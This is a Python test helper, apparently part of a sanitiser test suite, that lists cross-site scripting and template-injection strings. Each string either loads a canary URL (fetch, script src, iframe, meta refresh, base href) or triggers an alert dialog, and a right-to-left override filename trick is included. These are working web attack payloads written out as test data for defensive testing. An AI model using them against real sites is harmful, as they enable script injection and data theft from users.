"""Hostile texts: each calls the canary or opens a dialog where text is taken for HTML or a script (W10)."""


def hostile(canary: str) -> tuple[str, ...]:
    """One line each; `canary` is the address that nobody may ask."""
    return (
        f"<script src={canary}/script></script>",
        "<script>alert(1)</script>",
        f'<img src="{canary}/img" onerror="alert(1)">',
        f"<img src=x onerror=fetch('{canary}/error')>",
        f"<svg onload=fetch('{canary}/svg')><image href='{canary}/image'/></svg>",
        f"<iframe src='{canary}/frame' srcdoc='<script>alert(1)</script>'></iframe>",
        f"<object data='{canary}/object'></object><embed src='{canary}/embed'>",
        f"<link rel=stylesheet href='{canary}/style'><style>@import '{canary}/import';</style>",
        f"<video src='{canary}/video' autoplay onerror=alert(1)></video><audio src='{canary}/audio'>",
        f"<body onload=alert(1) background='{canary}/body'>",
        "<details open ontoggle=alert(1)><input autofocus onfocus=alert(1)>",
        f"<form action='{canary}/form'><button autofocus onfocus=alert(1)>",
        f"<meta http-equiv=refresh content='0;url={canary}/refresh'>",
        f"<base href='{canary}/'><a href=\"javascript:alert(1)\">click</a>",
        "javascript:alert(1)//https://a.example",
        "data:text/html,<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>' autofocus onfocus=alert(1) x='",
        "</textarea></title></script><svg/onload=alert(1)>",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
        "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
        "\u202egnp.exe <b>\u200bbold</b>",
    )
